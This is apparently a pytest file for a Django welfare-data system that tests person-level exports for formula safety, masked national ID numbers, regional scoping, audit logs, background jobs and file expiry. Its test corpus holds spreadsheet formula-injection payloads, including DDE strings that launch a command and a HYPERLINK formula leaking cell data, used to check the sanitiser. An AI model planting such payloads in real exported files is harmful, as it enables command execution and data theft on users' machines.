"""Person-level exports: formula-safe cells, NIK as text, masked by default, scoped, logged,
streamed below the threshold and prepared by the background worker above it; files expire."""

import csv
import io
from datetime import timedelta
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from laporan.exports import BAHAYA, aman_untuk_spreadsheet
from laporan.models import BerkasEkspor, StatusEkspor
from pendataan.models import Individu, Keluarga
from tests.matrix.ppks import buat_keluarga, buat_ppks
from tksk.models import AuditLog

# Values a spreadsheet would evaluate, as typed into names and addresses.
KORPUS = [
    "=1+1",
    '=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "  +62 811",
    " \t @x",
    "\n=1",
    "＝1+1",
    "=",
    "-",
]
AMAN = ["Budi Santoso", "Jl. Tjilik Riwut Km 5", "O'Brien", "100", "", "1-2-3", "a=b"]


def _berbahaya(nilai) -> bool:
    return isinstance(nilai, str) and nilai.lstrip()[:1] in BAHAYA and nilai[:1] != "'"


def test_formula_corpus_is_neutralised():
    for nilai in KORPUS:
        hasil = aman_untuk_spreadsheet(nilai)
        assert hasil == "'" + nilai, repr(nilai)
        assert not _berbahaya(hasil)
    for nilai in AMAN:
        assert aman_untuk_spreadsheet(nilai) == nilai
    assert aman_untuk_spreadsheet(42) == 42 and aman_untuk_spreadsheet(None) is None


@given(st.text(max_size=40))
def test_no_text_leaves_dangerous(teks):
    hasil = aman_untuk_spreadsheet(teks)
    assert hasil in (teks, "'" + teks)
    assert not _berbahaya(hasil)
    if teks.lstrip()[:1] not in BAHAYA and teks[:1] not in BAHAYA:
        assert hasil == teks


@pytest.fixture
def warga(world):
    """Households in Palangkaraya and Kapuas whose typed names and addresses are formulas, with
    full NIK, and a sensitive PPKS."""
    dibuat = []
    for i, nilai in enumerate(KORPUS):
        kec = "pahandut" if i % 2 else "selat"
        kel, ind = buat_keluarga(world, kec, nama=nilai)
        Keluarga.objects.filter(pk=kel.pk).update(alamat=KORPUS[-1 - i], status="terverifikasi")
        Individu.objects.filter(pk=ind.pk).update(nik=f"627101150580{i:04d}")
        dibuat.append(kel)
    buat_ppks(world, "pahandut", "ODHA")
    buat_ppks(world, "pahandut", "FM")
    return dibuat


def _ekspor(client, world, **data):
    isian = {"jenis": "individu", "wilayah": world.provinsi.pk, "format": "csv", "status": ""}
    isian.update(data)
    return client.post(reverse("laporan:ekspor"), isian)


def _baca_csv(response) -> list[list[str]]:
    isi = b"".join(response.streaming_content) if response.streaming else response.content
    assert isi.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, for Excel
    return list(csv.reader(io.StringIO(isi.decode("utf-8-sig"))))


@pytest.mark.django_db
def test_csv_stream_is_formula_safe_masked_scoped_and_logged(client, world, warga):
    client.force_login(world.users["prov"])
    response = _ekspor(client, world)
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = _baca_csv(response)
    header, data = rows[0], rows[1:]
    assert header[0] == "NIK" and len(data) == len(KORPUS) + 2
    for row in data:
        for cell in row:
            assert not _berbahaya(cell), row
    nik = [r[0] for r in data if r[0]]
    assert nik and all("********" in n and len(n) == 16 for n in nik)
    nama = {r[2] for r in data}
    assert "'=1+1" in nama and "'\t=1+1" in nama
    log = AuditLog.objects.get(aksi="ekspor_data", pelaku=world.users["prov"])
    assert log.data["baris"] == len(data)
    assert log.data["filter"]["jenis"] == "individu" and log.data["filter"]["wilayah"] == "62"
    # A kabupaten exports its own area only; another area is refused by the form.
    client.force_login(world.users["kab_palangkaraya"])
    rows = _baca_csv(_ekspor(client, world, wilayah=world.kab["palangkaraya"].pk))
    assert {r[14] for r in rows[1:]} == {"Kota Palangkaraya"}
    response = _ekspor(client, world, wilayah=world.kab["kapuas"].pk)
    assert response.status_code == 200 and not getattr(response, "streaming", False)
    assert "wilayah" in response.context["form"].errors


@pytest.mark.django_db
def test_xlsx_has_no_formula_and_nik_as_text(client, world, warga):
    client.force_login(world.users["kab_palangkaraya"])
    response = _ekspor(
        client,
        world,
        wilayah=world.kab["palangkaraya"].pk,
        format="xlsx",
        nik_lengkap="on",
        keperluan="Verifikasi calon penerima PKH 2026",
    )
    assert response.status_code == 200
    wb = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    ws = wb.active
    assert ws.freeze_panes == "A2"
    header = list(next(ws.iter_rows(min_row=1, max_row=1)))
    assert header[0].value == "NIK" and header[0].font.b and header[0].fill.fgColor.rgb
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            assert not _berbahaya(cell.value), cell.value
        nik, no_kk = row[0], row[1]
        if nik.value:
            assert isinstance(nik.value, str) and len(nik.value) == 16 and nik.value.isdigit()
            assert nik.data_type == "s" and nik.number_format == "@"
        assert no_kk.number_format == "@"
    log = AuditLog.objects.get(aksi="ekspor_data")
    assert log.data["filter"]["nik_lengkap"] is True
    assert log.data["filter"]["keperluan"].startswith("Verifikasi")


@pytest.mark.django_db
def test_full_nik_needs_a_purpose_and_roles(client, world, warga):
    client.force_login(world.users["prov"])
    response = _ekspor(client, world, nik_lengkap="on", keperluan="")
    assert response.status_code == 200
    assert "Tulis keperluan" in response.content.decode()
    assert not AuditLog.objects.filter(aksi="ekspor_data").exists()
    client.force_login(world.users["tksk_pahandut"])
    assert client.get(reverse("laporan:ekspor")).status_code == 403
    assert _ekspor(client, world).status_code == 403


@pytest.mark.django_db
def test_ppks_export_keeps_sensitive_records_inside_the_chain(client, world, warga):
    client.force_login(world.users["prov"])
    rows = _baca_csv(_ekspor(client, world, jenis="ppks"))
    assert [r[0] for r in rows[1:]] == ["FM"]
    client.force_login(world.users["kab_palangkaraya"])
    rows = _baca_csv(_ekspor(client, world, jenis="ppks", wilayah=world.kab["palangkaraya"].pk))
    assert sorted(r[0] for r in rows[1:]) == ["FM", "ODHA"]


@pytest.mark.django_db
def test_households_export_counts_and_filters(client, world, warga):
    client.force_login(world.users["admin"])
    rows = _baca_csv(_ekspor(client, world, jenis="keluarga", status="terverifikasi"))
    assert len(rows) - 1 == Keluarga.objects.filter(status="terverifikasi").count() == len(KORPUS)
    for row in rows[1:]:
        assert row[0].startswith("6271") and "********" in row[0]
        assert not any(_berbahaya(c) for c in row)


@pytest.mark.django_db(transaction=True)
def test_big_export_runs_in_the_background_and_expires(client, world, warga, settings, tmp_path):
    """Committed for real: the worker (another connection's view of the queue) must see it."""
    settings.EKSPOR_BATAS_LANGSUNG = 3
    settings.MEDIA_ROOT = str(tmp_path)
    client.force_login(world.users["prov"])
    response = _ekspor(client, world)
    berkas = BerkasEkspor.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("laporan:ekspor-status", args=[berkas.uuid])
    halaman = client.get(response["Location"])
    assert "sedang disiapkan" in halaman.content.decode()
    assert 'hx-trigger="every 3s"' in halaman.content.decode()
    assert AuditLog.objects.get(aksi="ekspor_antri").data["perkiraan_baris"] == len(KORPUS) + 2
    # The worker (django-tasks' database backend) runs the queued job.
    call_command("db_worker", "--batch", "--no-startup-delay", "--no-reload", verbosity=0)
    berkas.refresh_from_db()
    assert berkas.status == StatusEkspor.SELESAI and berkas.jumlah_baris == len(KORPUS) + 2
    path = Path(tmp_path) / berkas.berkas
    assert path.is_file() and berkas.berkas.startswith("ekspor/") and len(path.stem) >= 30
    assert "Unduh CSV" in client.get(response["Location"]).content.decode()
    unduh = client.get(reverse("laporan:ekspor-unduh", args=[berkas.uuid]))
    assert unduh.status_code == 200
    rows = _baca_csv(unduh)
    assert len(rows) == len(KORPUS) + 3
    assert AuditLog.objects.filter(aksi="ekspor_unduh").count() == 1
    assert AuditLog.objects.get(aksi="ekspor_selesai").data["baris"] == len(KORPUS) + 2
    # Only the requester: another user of the same area gets 403, another area 404.
    client.force_login(world.users["admin"])
    assert client.get(reverse("laporan:ekspor-unduh", args=[berkas.uuid])).status_code == 403
    client.force_login(world.users["kab_kapuas"])
    assert client.get(reverse("laporan:ekspor-unduh", args=[berkas.uuid])).status_code == 404
    # A second worker finds nothing to do: the job is not run twice.
    call_command("db_worker", "--batch", "--no-startup-delay", "--no-reload", verbosity=0)
    assert AuditLog.objects.filter(aksi="ekspor_selesai").count() == 1
    # Expired: the file is gone and the link says so.
    BerkasEkspor.objects.filter(pk=berkas.pk).update(
        kedaluwarsa_pada=timezone.now() - timedelta(minutes=1)
    )
    client.force_login(world.users["prov"])
    assert client.get(reverse("laporan:ekspor-unduh", args=[berkas.uuid])).status_code == 410
    assert not path.exists()


@pytest.mark.django_db
def test_cleanup_command_removes_expired_and_orphan_files(world, settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    folder = tmp_path / "ekspor"
    folder.mkdir()
    lama = folder / "lama.csv"
    lama.write_text("x")
    yatim = folder / "yatim.csv"
    yatim.write_text("x")
    baru = folder / "baru.csv"
    baru.write_text("x")
    import os

    dulu = (timezone.now() - timedelta(days=2)).timestamp()
    os.utime(yatim, (dulu, dulu))
    for nama, umur in (("lama.csv", -1), ("baru.csv", 5)):
        BerkasEkspor.objects.create(
            pemohon=world.users["prov"],
            wilayah=world.provinsi,
            jenis="individu",
            format="csv",
            status="selesai",
            berkas=f"ekspor/{nama}",
            kedaluwarsa_pada=timezone.now() + timedelta(hours=umur),
        )
    call_command("laporan_bersihkan_ekspor", verbosity=0)
    assert not lama.exists() and not yatim.exists() and baru.exists()


@pytest.mark.django_db(transaction=True)
def test_export_job_retries_a_transient_failure(
    client, world, warga, settings, tmp_path, monkeypatch
):
    """django-tasks-db never retries a failed job: the export job retries a dropped connection
    itself, and only a persistent failure marks the job failed (with no partial file)."""
    from django.db import OperationalError

    from laporan import exports
    from tksk import tasks as core_tasks

    settings.EKSPOR_BATAS_LANGSUNG = 3
    settings.MEDIA_ROOT = str(tmp_path)
    monkeypatch.setattr(core_tasks.time, "sleep", lambda _s: None)
    asli = exports.tulis_berkas
    panggilan = []

    def putus_sekali(baris, path):
        panggilan.append(path)
        if len(panggilan) == 1:
            Path(path).write_text("setengah")
            raise OperationalError("server closed the connection unexpectedly")
        return asli(baris, path)

    monkeypatch.setattr(exports, "tulis_berkas", putus_sekali)
    client.force_login(world.users["prov"])
    _ekspor(client, world)
    call_command("db_worker", "--batch", "--no-startup-delay", "--no-reload", verbosity=0)
    berkas = BerkasEkspor.objects.get()
    assert len(panggilan) == 2
    assert berkas.status == StatusEkspor.SELESAI and berkas.jumlah_baris == len(KORPUS) + 2
    assert "setengah" not in (Path(tmp_path) / berkas.berkas).read_text(encoding="utf-8-sig")

    def selalu_putus(baris, path):
        Path(path).write_text("setengah")
        raise OperationalError("server closed the connection unexpectedly")

    monkeypatch.setattr(exports, "tulis_berkas", selalu_putus)
    _ekspor(client, world)
    call_command("db_worker", "--batch", "--no-startup-delay", "--no-reload", verbosity=0)
    gagal = BerkasEkspor.objects.order_by("-id").first()
    assert gagal.status == StatusEkspor.GAGAL
    # No partial file is left behind: only the first job's finished file is there.
    assert [p.name for p in Path(tmp_path, "ekspor").iterdir()] == [Path(berkas.berkas).name]
